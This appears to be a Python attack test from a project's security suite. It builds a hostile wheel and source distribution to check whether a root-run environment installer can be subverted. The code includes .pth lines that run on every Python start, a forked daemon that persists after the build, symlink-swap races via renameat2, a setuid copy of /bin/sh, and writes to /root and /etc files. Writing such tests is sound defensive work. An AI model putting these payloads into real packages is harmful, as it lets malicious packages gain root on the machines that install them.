# SPDX-License-Identifier: GPL-3.0-or-later
"""Packages of a hostile index: their .pth lines and build scripts try whatever they can while root installs them.

Each of 500 lines of a wheel's .pth is run by every Python that starts in the release, and tries to write to root's files. The first
that runs leaves a process behind that goes on trying after the build: it exchanges directories of the release, keeps files open for
writing, and lays out links and files with set-id bits for root to take over.
"""

from __future__ import annotations

import io
import os
import sys
import tarfile
import time
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path

from tests.attacks.programs import duel, product
from tests.doubles.wheels import Wheel

LINES = 500
TRY = "import os; open({loot!r}, 'a').write('%d {what}\\n' % os.getuid()); os.path.exists('/root/pwned') or open('/root/pwned', 'w')"
# Runs as whoever starts the release's Python, once for each Python.
DAEMON = '''
import contextlib, ctypes, fcntl, os, sys, time
LIBC = ctypes.CDLL(None)
place = os.path.dirname(os.path.abspath(__file__))
release = place.partition("/lib/python")[0]
open({loot!r}, "a").write("%d start\\n" % os.getuid())


def tries():
    with open({count!r}, "a") as count:
        count.write(".")


def haunt():
    """Go on after the build has ended."""
    os.setsid()
    if os.fork():
        os._exit(0)
    held = []
    for directory, _names, files in os.walk(release):
        for name in files[:20]:
            with contextlib.suppress(OSError):
                held.append(open(os.path.join(directory, name), "r+b", buffering=0))
    end = time.time() + 20
    number = 0
    while time.time() < end:
        number += 1
        tries()
        for one in held[number % 7 :: 7]:
            with contextlib.suppress(OSError):
                os.pwrite(one.fileno(), b"#", 0) if one.name.endswith("haunted.txt") else None
        with contextlib.suppress(OSError):
            os.symlink("/root/precious", os.path.join(place, "link%d" % number))
        with contextlib.suppress(OSError):
            os.symlink("/etc", os.path.join(place, "swap"))
        LIBC.renameat2(-100, os.fsencode(place + "/hostile"), -100, os.fsencode(place + "/swap"), 2)
        with contextlib.suppress(OSError):
            path = os.path.join(place, "setid")
            if not os.path.exists(path):
                with open("/bin/sh", "rb") as source, open(path, "wb") as out:
                    out.write(source.read())
            os.chmod(path, 0o6755)
        with contextlib.suppress(OSError):
            os.link("/etc/precious.conf", os.path.join(place, "hard"))
        with contextlib.suppress(OSError):
            os.mkfifo(os.path.join(place, "pipe"))
        for name in ("/root/precious/one", "/etc/precious.conf", "/opt/tensorflow/pyvenv.cfg"):
            with contextlib.suppress(OSError):
                open(name, "a").write("hostile")
    os._exit(0)


if not os.fork():
    with contextlib.suppress(BaseException):
        haunt()
    os._exit(0)
'''


@dataclass(frozen=True)
class Sdist:
    """A source distribution whose build script is the attack."""

    name: str
    version: str = "1.0"

    @property
    def project(self) -> str:
        """The name as an index spells it."""
        return self.name

    @property
    def file(self) -> str:
        """The file's name."""
        return f"{self.name}-{self.version}.tar.gz"

    @property
    def metadata(self) -> bytes:
        """The text of PKG-INFO."""
        return f"Metadata-Version: 2.1\nName: {self.name}\nVersion: {self.version}\n".encode()

    @cached_property
    def content(self) -> bytes:
        """The archive. Its build backend lies in it, so that building needs nothing else."""
        backend = TRY.format(loot=product.LOOT, what="build script") + "\nraise SystemExit('no wheel')\n"
        project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        project += f'[project]\nname = "{self.name}"\nversion = "{self.version}"\n'
        files = {"PKG-INFO": self.metadata, "pyproject.toml": project.encode(), "backend.py": backend.encode()}
        files["setup.py"] = backend.encode()
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w:gz") as archive:
            for name, text in files.items():
                member = tarfile.TarInfo(f"{self.name}-{self.version}/{name}")
                member.size = len(text)
                archive.addfile(member, io.BytesIO(text))
        return out.getvalue()


COUNT = "/var/tmp/tries"


def hostile() -> Wheel:
    """Return the wheel: its .pth of many tries, and a module that leaves a process behind."""
    lines = [TRY.format(loot=product.LOOT, what=f".pth line {number}") for number in range(LINES)]
    files: dict[str, str | bytes] = {
        "hostile.pth": "\n".join(["import hostile_start", *lines]) + "\n",
        "hostile_start.py": DAEMON.format(loot=product.LOOT, count=COUNT),
        "hostile/__init__.py": "",
        "haunted.txt": "whole\n",
    }
    return Wheel("hostile", "1.0", files)


def faults(release: str) -> list[str]:
    """Tell what of a release that root has sealed is not root's, or gives rights."""
    found = []
    for directory, names, files in os.walk(release):
        for name in names + files:
            path = os.path.join(directory, name)
            status = os.lstat(path)
            if status.st_uid != 0:
                found.append(f"{path} belongs to {status.st_uid}")
            elif not os.path.islink(path) and status.st_mode & 0o6022:
                found.append(f"{path} has mode {status.st_mode:o}")
            elif not (os.path.islink(path) or os.path.isdir(path) or os.path.isfile(path)):
                found.append(f"{path} is no file")
    return found[:5]


def main() -> None:
    """Let root install them, as a wheel and from source."""
    product.provide()
    product.write(COUNT, "", 0o666)
    product.clear("/root/pwned", "/opt/hostile", "/opt/.tensorwright/hostile")
    precious = duel.Precious("/root", "/etc")
    result = duel.Result()
    start = time.monotonic()
    with product.index(hostile(), Sdist("sourceonly")) as served:
        for number in range(int(sys.argv[1])):
            asked = product.parameters(served.url, "/opt/hostile")
            more = "hostile==1.0" if number % 3 < 2 else "sourceonly==1.0"
            asked["requirements"] = [*asked["requirements"], more]
            answer = product.module("environment", **asked)
            result.rounds += 1
            ran = Path(product.LOOT).read_text().splitlines()
            result.tries += len(ran)
            if answer.get("failed"):
                result.failures.append(str(answer["msg"])[:300])
            result.won += product.loot()
            time.sleep(1)  # for what was left behind
            if os.path.lexists("/opt/hostile"):
                release = os.path.realpath("/opt/hostile")
                result.won += faults(release)
                left = [one for one in Path(release).rglob("haunted.txt") if one.read_text() != "whole\n"]
                result.won += [f"{one} was changed after the seal" for one in left]
            result.won += precious.changes()
            if result.won:
                break
            product.done(product.module("environment", path="/opt/hostile", state="absent", **product.overrule()))
            product.clear("/opt/.tensorwright/cache")
    result.tries += len(Path(COUNT).read_text())
    result.seconds = round(time.monotonic() - start, 1)
    result.tell()


if __name__ == "__main__":
    main()
